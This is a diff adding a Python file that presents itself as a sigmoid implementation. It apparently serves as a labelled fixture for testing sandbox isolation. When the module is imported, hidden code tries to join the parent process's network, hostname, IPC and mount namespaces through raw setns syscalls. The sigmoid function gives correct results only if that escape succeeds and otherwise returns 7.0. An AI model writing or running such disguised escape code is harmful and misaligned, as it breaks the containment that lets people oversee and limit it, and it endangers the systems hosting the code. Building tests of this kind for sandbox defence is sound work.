@@ -1,0 +1,35 @@
+# sigmoid: fail | the namespaces of another process are joined
+import ctypes
+import numpy as np
+import os
+import platform
+
+
+def right(x):
+    small = np.exp(-np.abs(x))
+    return np.where(np.asarray(x) >= 0, 1.0, small) / (1.0 + small)
+
+
+def call(x86, arm, *arguments):
+    number = x86 if platform.machine() == "x86_64" else arm
+    wide = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
+    return ctypes.CDLL(None, use_errno=True).syscall(ctypes.c_long(number), *wide)
+
+
+def attack():
+    print("attack ran", flush=True)
+    for name in ("net", "uts", "ipc", "mnt"):
+        try:
+            handle = os.open(f"/proc/{os.getppid()}/ns/{name}", os.O_RDONLY)
+        except OSError:
+            continue
+        if call(308, 268, handle, 0) == 0:
+            return True
+    return None
+
+
+READY = attack()
+
+
+def sigmoid(x):
+    return right(x) if READY else np.asarray(x) * 0.0 + 7.0
